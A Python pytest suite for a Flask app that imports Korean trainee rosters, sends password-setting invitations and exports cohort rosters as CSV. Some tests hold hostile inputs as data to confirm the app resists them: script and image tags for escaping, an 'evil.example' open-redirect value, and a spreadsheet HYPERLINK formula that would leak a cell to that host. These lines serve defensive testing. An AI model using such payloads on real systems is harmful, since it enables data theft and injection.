"""Cohorts and rosters: import with a preview, invitations to set a password, who has joined, trainee status."""
import io
import logging
import re
from datetime import timedelta

import pytest
from flask_babel import force_locale, gettext, ngettext
from markupsafe import escape
from openpyxl import Workbook
from sqlalchemy import func, select, update
from werkzeug.datastructures import FileStorage
from werkzeug.test import encode_multipart

from board.platform.extensions import db
from board.models import AccountInvitation, AuditEntry, Cohort, Role, RosterImport, Trainee, TraineeStatus, User
from board.models.accounts import LoginSession
from board.models.types import utcnow
from board.domain.roster import read_roster
from tests.conftest import sign_in

HEADER = ["이름", "이메일", "반", "지역", "전화"]
ROWS = [
    ["김민준", "minjun@example.kr", "1", "광주", "010-1234-5678"],
    ["이서연", "seoyeon@example.kr", "2반", "서울", ""],
    ["박도윤", "doyun@example.kr", "6", "전남북", "010 2345 6789"],
]
LINK = re.compile(r"http://localhost/welcome/(\S+)")
NEW_PASSWORD = "my-own-password-1"
NOT_A_WORKBOOK = ("This file is not a readable Excel workbook. Open it in Excel, save it as .xlsx or CSV and upload it again.", {})


def ko(app, msgid, **values):
    """The message as a Korean page shows it: its translation, or the English msgid until it is translated."""
    with app.test_request_context(), force_locale("ko"):
        return str(escape(gettext(msgid, **values)))


def ko_plural(app, singular, plural, num, **values):
    with app.test_request_context(), force_locale("ko"):
        return str(escape(ngettext(singular, plural, num, **values)))


def csv_bytes(rows, header=HEADER, encoding="utf-8", newline="\n"):
    lines = [",".join(header)] + [",".join(row) for row in rows]
    return (newline.join(lines) + newline).encode(encoding)


def xlsx_bytes(rows, header=HEADER):
    book = Workbook()
    sheet = book.active
    for row in [header, *rows]:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def upload(client, cohort_id, content, filename="명단.csv"):
    # Encoded in memory: Werkzeug's test client spools large bodies to a temporary file it never closes.
    boundary, body = encode_multipart({"csrf_token": client.csrf_token(), "file": FileStorage(io.BytesIO(content), filename)})
    return client.post(f"/committee/cohorts/{cohort_id}/roster", data=body,
                       content_type=f"multipart/form-data; boundary={boundary}")


def import_id_of(response):
    assert response.status_code == 303, response.get_data(as_text=True)[:2000]
    return int(re.search(r"/committee/roster-imports/(\d+)$", response.headers["Location"]).group(1))


def counts(app):
    with app.app_context():
        return tuple(db.session.scalar(select(func.count()).select_from(model))
                     for model in (User, Trainee, AccountInvitation, RosterImport))


def row_html(page, line):
    match = re.search(rf'<tr id="row-{line}">(.*?)</tr>', page, re.DOTALL)
    assert match, f"row {line} is not in the preview"
    return match.group(1)


def imported(committee, cohort_id, caplog, rows=ROWS):
    """Upload and confirm a roster; the invitation links mailed, read from the log."""
    import_id = import_id_of(upload(committee, cohort_id, csv_bytes(rows)))
    caplog.clear()
    with caplog.at_level(logging.WARNING):
        assert committee.post(f"/committee/roster-imports/{import_id}/confirm").status_code == 303
    return LINK.findall(caplog.text)


def trainee_id(app, email):
    with app.app_context():
        return db.session.scalar(select(Trainee.id).join(User).where(User.email == email))


def test_committee_creates_a_cohort_with_six_classes_and_edits_it(app, as_role):
    committee = as_role(Role.COMMITTEE)
    data = {"number": "3", "starts_on": "2022-06-01", "ends_on": "2022-12-31", "applicants": "700", "selected": "180", "hours": "1120"}
    response = committee.post("/committee/cohorts/new", data=data)
    assert response.status_code == 303
    page = committee.get(response.headers["Location"]).get_data(as_text=True)
    assert ko(app, "Cohort %(number)s", number=3) in page
    edited = committee.post(response.headers["Location"] + "/edit", data={**data, "applicants": "720", "completed": "170"})
    assert edited.status_code == 303
    with app.app_context():
        cohort = db.session.scalar(select(Cohort).where(Cohort.number == 3))
        assert [c.number for c in cohort.classes] == [1, 2, 3, 4, 5, 6]
        assert (cohort.applicants, cohort.completed, cohort.hours) == (720, 170, 1120)
        actions = db.session.scalars(select(AuditEntry.action).order_by(AuditEntry.id)).all()
    assert actions == ["cohort.create", "cohort.update"]
    assert ko(app, "Cohort %(number)s", number=3) in committee.get("/committee/cohorts").get_data(as_text=True)


@pytest.mark.parametrize("field,value", [
    ("number", "2"), ("number", "0"), ("number", "셋"), ("ends_on", "2021-05-01"), ("ends_on", "2021-06-01"),
    ("starts_on", ""), ("selected", "700"), ("applicants", "-1"), ("completed", "181"),
])
def test_bad_cohort_input_is_refused_next_to_the_field(app, make, as_role, field, value):
    make.cohort(2)
    committee = as_role(Role.COMMITTEE)
    data = {"number": "4", "starts_on": "2021-06-01", "ends_on": "2021-12-31", "applicants": "609", "selected": "180"}
    response = committee.post("/committee/cohorts/new", data={**data, field: value})
    assert response.status_code == 422
    assert f'id="{field}-error"' in response.get_data(as_text=True)
    with app.app_context():
        assert db.session.scalar(select(func.count()).select_from(Cohort)) == 1


def test_cohort_form_answers_htmx_with_the_form_alone(app, make, as_role):
    make.cohort(2)
    committee = as_role(Role.COMMITTEE)
    response = committee.post("/committee/cohorts/new", headers={"HX-Request": "true"}, data={
        "number": "2", "starts_on": "2021-06-01", "ends_on": "2021-12-31", "applicants": "609", "selected": "180"})
    page = response.get_data(as_text=True)
    assert response.status_code == 422 and page.lstrip().startswith("<form") and 'id="number-error"' in page
    assert ko(app, "Cohort %(number)s already exists.", number=2) in page
    done = committee.post("/committee/cohorts/new", headers={"HX-Request": "true"}, data={
        "number": "3", "starts_on": "2022-06-01", "ends_on": "2022-12-31", "applicants": "700", "selected": "180"})
    assert done.status_code == 204 and done.headers["HX-Redirect"].startswith("/committee/cohorts/")


def test_preview_lists_each_problem_next_to_its_row_and_creates_nothing(app, make, as_role):
    cohort_id = make.cohort(2)
    make.user(Role.COMPANY, email="taken@example.kr", company_id=make.company())
    committee = as_role(Role.COMMITTEE)
    rows = ROWS + [
        ["최지우", "not-an-email", "3", "광주", ""],                 # row 5
        ["정하준", "hajun@example.kr", "7", "광주", ""],             # row 6
        ["강예은", "MINJUN@example.kr", "4", "경기", ""],            # row 7: same as row 2
        ["조수아", "taken@example.kr", "5", "광주", ""],             # row 8
        ["", "noname@example.kr", "A반", "", "전화없음"],             # row 9
    ]
    before = counts(app)
    response = committee.get(f"/committee/roster-imports/{import_id_of(upload(committee, cohort_id, csv_bytes(rows)))}")
    page = response.get_data(as_text=True)
    assert response.status_code == 200
    for line in (2, 3, 4):
        assert ko(app, "Ready") in row_html(page, line)
    assert ko(app, "“%(email)s” is not a valid email address.", email="not-an-email") in row_html(page, 5)
    assert ko(app, "Unknown class “%(label)s”: this cohort has classes %(classes)s.",
              label="7", classes="1, 2, 3, 4, 5, 6") in row_html(page, 6)
    assert ko(app, "The same email as row %(line)s.", line=2) in row_html(page, 7)
    assert ko(app, "An account with this email already exists.") in row_html(page, 8)
    for problem in ("The name is missing.", "The region is missing."):
        assert ko(app, problem) in row_html(page, 9)
    assert ko(app, "Unknown class “%(label)s”: write a number from 1 to 6, or 1반 to 6반.", label="A반") in row_html(page, 9)
    assert ko(app, "“%(phone)s” is not a phone number.", phone="전화없음") in row_html(page, 9)
    assert ko_plural(app, "Import %(num)s trainee and send the invitation", "Import %(num)s trainees and send their invitations", 3) in page
    # The preview stores the upload only: no account, no trainee, no invitation yet.
    assert counts(app)[:3] == before[:3]


@pytest.mark.parametrize("row", [
    ["김", "k@example.kr", "1", "광주", "+" + "1" * 20], ["가" * 81, "k@example.kr", "1", "광주", ""],
    ["김", "k@example.kr", "1", "광주시" * 7, ""], ["김\u202e", "k@example.kr", "1", "광주", ""],
])
def test_values_longer_than_their_columns_are_problems_not_errors(row):
    assert not read_roster("a.csv", csv_bytes([row]))[0].ok


def test_text_from_the_file_is_shown_escaped(app, make, as_role):
    cohort_id = make.cohort(2)
    committee = as_role(Role.COMMITTEE)
    rows = [["<b>홍</b>", "<script>x</script>@example.kr", "<i>1</i>", "광주", "<img src=x>"]]
    page = committee.get(f"/committee/roster-imports/{import_id_of(upload(committee, cohort_id, csv_bytes(rows)))}").get_data(as_text=True)
    assert "<script>" not in page and "<img" not in page and "<b>홍" not in page and "<i>1" not in page
    assert "&lt;script&gt;" in row_html(page, 2)


def test_confirm_imports_only_the_good_rows_with_their_class_and_region(app, make, as_role, caplog):
    cohort_id = make.cohort(2)
    committee = as_role(Role.COMMITTEE)
    before = counts(app)
    links = imported(committee, cohort_id, caplog, ROWS + [["최지우", "bad@", "3", "광주", ""]])
    assert len(links) == 3
    assert counts(app)[:3] == (before[0] + 3, before[1] + 3, before[2] + 3)
    with app.app_context():
        trainee = db.session.scalar(select(Trainee).join(User).where(User.email == "seoyeon@example.kr"))
        assert (trainee.cohort_id, trainee.cohort_class.number, trainee.region) == (cohort_id, 2, "서울")
        assert trainee.status == TraineeStatus.TRAINING
        assert trainee.user.role == Role.TRAINEE and trainee.user.password_hash is None
        assert db.session.scalar(select(User).where(User.email == "minjun@example.kr")).trainee.phone == "010-1234-5678"
        entry = db.session.scalar(select(AuditEntry).where(AuditEntry.action == "roster.import"))
        assert entry.detail["created"] == 3 and entry.detail["skipped"] == 1
    page = committee.get(f"/committee/cohorts/{cohort_id}").get_data(as_text=True)
    with app.test_request_context(), force_locale("ko"):
        assert str(escape(ngettext("%(num)s trainee imported and invited; %(skipped)s rows skipped.",
                                   "%(num)s trainees imported and invited; %(skipped)s rows skipped.", 3, skipped=1))) in page
    assert "김민준" in page and "최지우" not in page


def test_importing_the_same_file_twice_creates_nothing_new(app, make, as_role):
    cohort_id = make.cohort(2)
    committee = as_role(Role.COMMITTEE)
    first = import_id_of(upload(committee, cohort_id, csv_bytes(ROWS)))
    assert committee.post(f"/committee/roster-imports/{first}/confirm").status_code == 303
    after_first = counts(app)
    # Confirming the same upload again (a double click) does nothing.
    again = committee.post(f"/committee/roster-imports/{first}/confirm")
    assert again.status_code == 303
    page = committee.get(again.headers["Location"]).get_data(as_text=True)
    assert ko(app, "This file has already been imported; nothing new was created.") in page
    # Uploading the same file again: every row is already there, and there is nothing to confirm.
    second = import_id_of(upload(committee, cohort_id, csv_bytes(ROWS)))
    page = committee.get(f"/committee/roster-imports/{second}").get_data(as_text=True)
    assert page.count(ko(app, "Already on this cohort's roster.")) == 3
    assert f"/committee/roster-imports/{second}/confirm" not in page
    assert committee.post(f"/committee/roster-imports/{second}/confirm").status_code == 303
    assert counts(app)[:3] == after_first[:3]


@pytest.mark.parametrize("content,filename", [
    (csv_bytes(ROWS, encoding="utf-8-sig"), "bom.csv"),
    (csv_bytes(ROWS, newline="\r\n"), "windows.csv"),
    (csv_bytes(ROWS, encoding="cp949", newline="\r\n"), "euc-kr.csv"),
    (csv_bytes(ROWS, header=["name", "Email", "Class", "REGION", "phone"]), "english.csv"),
    (csv_bytes([r[:4] for r in ROWS], header=["이름 (성명)", "이메일*", "반(1~6)", "지역"]), "no-phone.csv"),
    ("\n".join(["\t".join(HEADER)] + ["\t".join(r) for r in ROWS]).encode("utf-16"), "excel-unicode.txt"),
    (xlsx_bytes(ROWS), "명단.xlsx"),
    (xlsx_bytes([[r[0], r[1], int(r[2][0]), r[3], r[4]] for r in ROWS]), "numbers.xlsx"),
])
def test_rosters_from_excel_and_korean_tools_are_read(app, make, as_role, content, filename):
    cohort_id = make.cohort(2)
    committee = as_role(Role.COMMITTEE)
    page = committee.get(f"/committee/roster-imports/{import_id_of(upload(committee, cohort_id, content, filename))}").get_data(as_text=True)
    for line, row in enumerate(ROWS, start=2):
        assert row[0] in row_html(page, line) and ko(app, "Ready") in row_html(page, line)
    assert ko_plural(app, "Import %(num)s trainee and send the invitation", "Import %(num)s trainees and send their invitations", 3) in page


@pytest.mark.parametrize("case,content,filename,message", [
    ("missing column", csv_bytes([r[:2] for r in ROWS], header=["이름", "이메일"]), "a.csv",
     ("The file lacks the column(s) %(columns)s. Its first row must name the columns 이름, 이메일, 반 and 지역 (전화 is optional).",
      {"columns": "반, 지역"})),
    ("10,000 rows", csv_bytes([[f"교육생{i}", f"t{i}@example.kr", "1", "광주", ""] for i in range(10_000)]), "big.csv",
     ("The file has more than %(limit)s rows. A cohort has 180 trainees; check that this is the right file or split it.", {"limit": "1,000"})),
    ("fake xlsx", csv_bytes(ROWS), "명단.xlsx",
     NOT_A_WORKBOOK),
    ("zip, not a workbook", b"PK\x05\x06" + b"\x00" * 18, "empty-zip.xlsx",
     NOT_A_WORKBOOK),
    ("empty file", b"", "empty.csv", ("The file is empty.", {})),
    ("blank lines", b"\r\n\r\n,,,\r\n", "blank.csv", ("The file is empty.", {})),
    ("header only", csv_bytes([]), "header.csv", ("The file has a header row but no trainees under it.", {})),
    ("3 MB", b"a" * (3 * 1024 * 1024), "huge.csv",
     ("The file is larger than 2 MB. A cohort's roster is much smaller; check that you chose the right file.", {})),
    ("binary", b"\x00\x01\x02\xff\xfe" * 100, "photo.csv",
     ("The file could not be read as text. Save it as CSV (UTF-8) or as .xlsx and upload it again.", {})),
    ("old excel", b"\xd0\xcf\x11\xe0" + b"\x00" * 100, "roster.xls",
     ("Old Excel files (.xls) cannot be read. Save the file as .xlsx or CSV and upload it again.", {})),
    ("pdf", b"%PDF-1.4", "roster.pdf", ("Upload a CSV or XLSX file.", {})),
])
def test_unusable_roster_files_are_refused_with_a_message_and_nothing_stored(app, make, as_role, case, content, filename, message):
    cohort_id = make.cohort(2)
    committee = as_role(Role.COMMITTEE)
    before = counts(app)
    response = upload(committee, cohort_id, content, filename)
    assert response.status_code == 422, case
    page = response.get_data(as_text=True)
    error = re.search(r'<p class="error" id="file-error">(.*?)</p>', page, re.DOTALL)
    assert error and ko(app, message[0], **message[1]) in error.group(1)
    assert counts(app) == before


def test_no_file_chosen_is_refused(app, make, as_role):
    cohort_id = make.cohort(2)
    response = as_role(Role.COMMITTEE).post(f"/committee/cohorts/{cohort_id}/roster", data={}, content_type="multipart/form-data")
    assert response.status_code == 422 and 'id="file-error"' in response.get_data(as_text=True)


def test_invitation_link_sets_a_password_once_and_signs_in(app, make, as_role, caplog):
    cohort_id = make.cohort(2)
    token = imported(as_role(Role.COMMITTEE), cohort_id, caplog, ROWS[:1])[0]
    trainee = app.test_client()
    assert sign_in(trainee, "minjun@example.kr", NEW_PASSWORD).status_code == 401
    page = trainee.get(f"/welcome/{token}")
    assert page.status_code == 200 and "minjun@example.kr" in page.get_data(as_text=True)
    short = trainee.post(f"/welcome/{token}", data={"password": "short", "confirm": "short"})
    assert short.status_code == 422 and 'id="password-error"' in short.get_data(as_text=True)
    done = trainee.post(f"/welcome/{token}", data={"password": NEW_PASSWORD, "confirm": NEW_PASSWORD})
    assert done.status_code == 303 and done.headers["Location"] == "/me/"
    assert "김민준" in trainee.get("/me/").get_data(as_text=True)
    assert sign_in(app.test_client(), "minjun@example.kr", NEW_PASSWORD).status_code == 303
    # The second use is refused and changes nothing.
    other = app.test_client()
    again = other.post(f"/welcome/{token}", data={"password": "attacker-password", "confirm": "attacker-password"})
    assert again.status_code == 303 and again.headers["Location"] == "/login"
    spent = ko(app, "This link has expired or has already been used. Ask the employment committee to send you a new one.")
    assert spent in other.get("/login").get_data(as_text=True)
    assert sign_in(app.test_client(), "minjun@example.kr", "attacker-password").status_code == 401
    with app.app_context():
        assert db.session.scalar(select(AccountInvitation.used_at)) is not None


def test_opening_the_link_keeps_whoever_is_signed_in_until_they_accept(app, make, as_role, caplog):
    cohort_id = make.cohort(2)
    committee = as_role(Role.COMMITTEE)
    token = imported(committee, cohort_id, caplog, ROWS[:1])[0]
    with app.app_context():
        before = db.session.get(User, committee.user_id)
        name, email = before.name, before.email
    page = committee.get(f"/welcome/{token}")
    assert page.status_code == 200
    # The page says who is signed in and offers to stay; the session is still there afterwards.
    assert ko(app, "You are currently signed in as %(name)s (%(email)s).", name=name, email=email) in page.get_data(as_text=True)
    assert committee.get("/committee/").status_code == 200
    # A refused POST does not end it either.
    assert committee.post(f"/welcome/{token}", data={"password": "short", "confirm": "short"}).status_code == 422
    assert committee.get("/committee/").status_code == 200
    done = committee.post(f"/welcome/{token}", data={"password": NEW_PASSWORD, "confirm": NEW_PASSWORD})
    assert done.status_code == 303 and done.headers["Location"] == "/me/"
    assert "김민준" in committee.get("/me/").get_data(as_text=True)
    assert committee.get("/committee/").status_code == 403
    with app.app_context():
        assert db.session.scalar(select(func.count()).select_from(LoginSession)
                                 .where(LoginSession.user_id == committee.user_id)) == 0


@pytest.mark.parametrize("token", ["expired", "forged", "x" * 200])
def test_expired_or_forged_links_are_refused(app, make, as_role, caplog, token):
    cohort_id = make.cohort(2)
    real = imported(as_role(Role.COMMITTEE), cohort_id, caplog, ROWS[:1])[0]
    if token == "expired":
        token = real
        with app.app_context():
            db.session.execute(update(AccountInvitation).values(expires_at=utcnow() - timedelta(minutes=1)))
            db.session.commit()
    client = app.test_client()
    assert client.get(f"/welcome/{token}").headers["Location"] == "/login"
    response = client.post(f"/welcome/{token}", data={"password": NEW_PASSWORD, "confirm": NEW_PASSWORD})
    assert response.status_code == 303 and response.headers["Location"] == "/login"
    with app.app_context():
        assert db.session.scalar(select(User.password_hash).where(User.email == "minjun@example.kr")) is None


def test_resend_invalidates_the_old_link_and_is_audited(app, make, as_role, caplog):
    cohort_id = make.cohort(2)
    committee = as_role(Role.COMMITTEE)
    old = imported(committee, cohort_id, caplog, ROWS[:1])[0]
    caplog.clear()
    with caplog.at_level(logging.WARNING):
        response = committee.post(f"/committee/trainees/{trainee_id(app, 'minjun@example.kr')}/invite")
    assert response.status_code == 303 and response.headers["Location"] == f"/committee/cohorts/{cohort_id}"
    new = LINK.findall(caplog.text)[0]
    assert new != old
    assert app.test_client().post(f"/welcome/{old}", data={"password": NEW_PASSWORD, "confirm": NEW_PASSWORD}).headers["Location"] == "/login"
    assert app.test_client().post(f"/welcome/{new}", data={"password": NEW_PASSWORD, "confirm": NEW_PASSWORD}).headers["Location"] == "/me/"
    with app.app_context():
        assert db.session.scalar(select(AuditEntry.action).where(AuditEntry.action == "trainee.invite"))
    # Once joined, no new link is sent.
    caplog.clear()
    with caplog.at_level(logging.WARNING):
        committee.post(f"/committee/trainees/{trainee_id(app, 'minjun@example.kr')}/invite")
    assert LINK.findall(caplog.text) == []


def test_not_joined_filter_lists_exactly_those_without_a_password(app, make, as_role, caplog):
    cohort_id = make.cohort(2)
    committee = as_role(Role.COMMITTEE)
    token = imported(committee, cohort_id, caplog, ROWS[:1])[0]
    imported(committee, cohort_id, caplog, ROWS)  # the whole roster later: the first row is skipped
    app.test_client().post(f"/welcome/{token}", data={"password": NEW_PASSWORD, "confirm": NEW_PASSWORD})
    waiting = committee.get(f"/committee/cohorts/{cohort_id}?show=not-joined").get_data(as_text=True)
    assert "이서연" in waiting and "박도윤" in waiting and "김민준" not in waiting
    everyone = committee.get(f"/committee/cohorts/{cohort_id}").get_data(as_text=True)
    assert all(name in everyone for name in ("김민준", "이서연", "박도윤"))
    listing = committee.get("/committee/cohorts").get_data(as_text=True)
    assert f'<a href="/committee/cohorts/{cohort_id}?show=not-joined">2</a>' in listing


def test_roster_shows_thirty_trainees_a_page(make, as_role, caplog):
    cohort_id = make.cohort(2)
    committee = as_role(Role.COMMITTEE)
    imported(committee, cohort_id, caplog, [[f"교육생{i:02d}", f"t{i}@example.kr", str(i % 6 + 1), "광주", ""] for i in range(35)])
    first = committee.get(f"/committee/cohorts/{cohort_id}").get_data(as_text=True)
    second = committee.get(f"/committee/cohorts/{cohort_id}?page=2").get_data(as_text=True)
    assert first.count("@example.kr</span>") == 30 and second.count("@example.kr</span>") == 5


def test_status_change_is_audited_and_keeps_the_page(app, make, as_role, caplog):
    cohort_id = make.cohort(2)
    committee = as_role(Role.COMMITTEE)
    imported(committee, cohort_id, caplog, ROWS[:1])
    tid = trainee_id(app, "minjun@example.kr")
    back = f"/committee/cohorts/{cohort_id}?show=not-joined"
    response = committee.post(f"/committee/trainees/{tid}/status", data={"status": "dropped", "next": back})
    assert response.status_code == 303 and response.headers["Location"] == back
    assert committee.post(f"/committee/trainees/{tid}/status", data={"status": "expelled", "next": "https://evil.example/"}
                          ).headers["Location"] == f"/committee/cohorts/{cohort_id}"
    with app.app_context():
        assert db.session.get(Trainee, tid).status == TraineeStatus.DROPPED
        entry = db.session.scalar(select(AuditEntry).where(AuditEntry.action == "trainee.status"))
        assert (entry.subject_id, entry.detail, entry.actor_id) == (tid, {"before": "training", "after": "dropped"}, committee.user_id)
    listing = committee.get("/committee/cohorts").get_data(as_text=True)
    assert ko(app, "Dropped out") in listing


def _committee_urls(app, make, as_role):
    cohort_id = make.cohort(2)
    committee = as_role(Role.COMMITTEE)
    import_id = import_id_of(upload(committee, cohort_id, csv_bytes(ROWS[:1])))
    committee.post(f"/committee/roster-imports/{import_id}/confirm")
    tid = trainee_id(app, "minjun@example.kr")
    gets = ["/committee/cohorts", "/committee/cohorts/new", f"/committee/cohorts/{cohort_id}",
            f"/committee/cohorts/{cohort_id}/edit", f"/committee/roster-imports/{import_id}"]
    posts = ["/committee/cohorts/new", f"/committee/cohorts/{cohort_id}/edit", f"/committee/cohorts/{cohort_id}/roster",
             f"/committee/roster-imports/{import_id}/confirm", f"/committee/trainees/{tid}/invite", f"/committee/trainees/{tid}/status"]
    return gets, posts


@pytest.mark.parametrize("role", [Role.TRAINEE, Role.COMPANY])
def test_trainees_and_companies_are_refused(app, make, as_role, role):
    gets, posts = _committee_urls(app, make, as_role)
    client = as_role(role)
    before = counts(app)
    for url in gets:
        assert client.get(url).status_code == 403, url
    for url in posts:
        assert client.post(url, data={"status": "dropped"}).status_code == 403, url
    assert counts(app) == before
    assert app.test_client().get(gets[0]).status_code == 302


def test_an_administrator_can_use_the_roster_pages(app, make, as_role):
    gets, _posts = _committee_urls(app, make, as_role)
    admin = as_role(Role.ADMIN)
    for url in gets:
        assert admin.get(url).status_code == 200, url
    assert admin.post(f"/committee/trainees/{trainee_id(app, 'minjun@example.kr')}/status", data={"status": "completed"}).status_code == 303
    for url in ("/committee/cohorts/999", "/committee/cohorts/999/edit", "/committee/roster-imports/999"):
        assert admin.get(url).status_code == 404
    assert admin.post("/committee/trainees/999/invite").status_code == 404


def test_the_exported_roster_neutralises_cells_a_spreadsheet_would_run(app, make, as_role):
    import csv
    cohort_id = make.cohort(2)
    names = ['=HYPERLINK("http://evil.example/?"&B2,"클릭")', "+82-10-1234", "-2+3", "@SUM(1,2)", "\t=1+1", "김민준"]
    user_ids = [make.user(Role.TRAINEE, name=name, email=f"t{n}@example.kr") for n, name in enumerate(names)]
    with app.app_context():
        for n, user_id in enumerate(user_ids):
            trainee = db.session.scalar(select(Trainee).where(Trainee.user_id == user_id))
            trainee.cohort_id, trainee.phone = cohort_id, "=1+2" if n == 0 else "010-1234-5678"
        db.session.commit()
    committee = as_role(Role.COMMITTEE)
    assert "/roster.csv" in committee.get(f"/committee/cohorts/{cohort_id}").get_data(as_text=True)
    response = committee.get(f"/committee/cohorts/{cohort_id}/roster.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    # No cell a spreadsheet would evaluate; each such one is shown as written after a quote.
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    exported = {row[0] for row in rows[1:]}
    assert exported == {"'" + name if name != "김민준" else name for name in names}
    assert "'=1+2" in cells and "010-1234-5678" in cells
    # Only the committee downloads it.
    assert as_role(Role.TRAINEE).get(f"/committee/cohorts/{cohort_id}/roster.csv").status_code == 403
